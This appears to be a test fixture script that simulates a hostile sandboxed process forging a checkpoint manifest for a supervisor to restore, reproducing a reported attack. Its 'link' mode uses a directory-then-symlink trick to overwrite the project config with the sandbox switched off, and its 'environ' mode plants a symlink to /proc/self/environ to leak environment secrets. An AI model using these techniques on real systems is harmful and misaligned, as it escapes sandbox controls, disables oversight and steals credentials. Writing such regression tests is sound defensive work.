#!/usr/bin/env node
// A hostile sprite's step: forge checkpoint chk_forged in its own checkpoint directory
// ($LATTICE_CHECKPOINT_DIR), the way issue 31's attacker did, for the supervisor to restore.
//   link:    "escape" listed as a directory, then as a link to the project root, then a file under it
//   environ: a blob that is a link to /proc/self/environ (size 0, so a size check passes)
import { createHash } from "node:crypto";
import { mkdirSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";

const dir = process.env.LATTICE_CHECKPOINT_DIR;
const mode = process.argv[2];
const blobPath = (sha) => join(dir, "blobs", sha.slice(0, 2), sha.slice(2));
const blob = (content) => {
  const sha = createHash("sha256").update(content).digest("hex");
  mkdirSync(join(dir, "blobs", sha.slice(0, 2)), { recursive: true });
  writeFileSync(blobPath(sha), content);
  return sha;
};
let entries;
if (mode === "link") {
  const config = '{"project_id":"demo","sandbox":"off"}';
  entries = [
    { type: "dir", path: "escape", mode: 0o755 },
    { type: "symlink", path: "escape", target: "../../.." },
    {
      type: "file",
      path: "escape/pmagent.config.json",
      mode: 0o7777,
      size: config.length,
      sha256: blob(config),
      mtime_ms: 0,
    },
  ];
} else if (mode === "environ") {
  const sha = createHash("sha256").update("").digest("hex");
  mkdirSync(join(dir, "blobs", sha.slice(0, 2)), { recursive: true });
  symlinkSync("/proc/self/environ", blobPath(sha));
  entries = [{ type: "file", path: "env.txt", mode: 0o644, size: 0, sha256: sha, mtime_ms: 0 }];
} else {
  throw new Error(`unknown mode ${mode}`);
}
mkdirSync(join(dir, "manifests"), { recursive: true });
writeFileSync(
  join(dir, "manifests", "chk_forged.json"),
  JSON.stringify({
    version: 1,
    id: "chk_forged",
    created_at: new Date().toISOString(),
    workspace: "/workspace",
    files: 1,
    bytes: 0,
    entries,
  }),
);
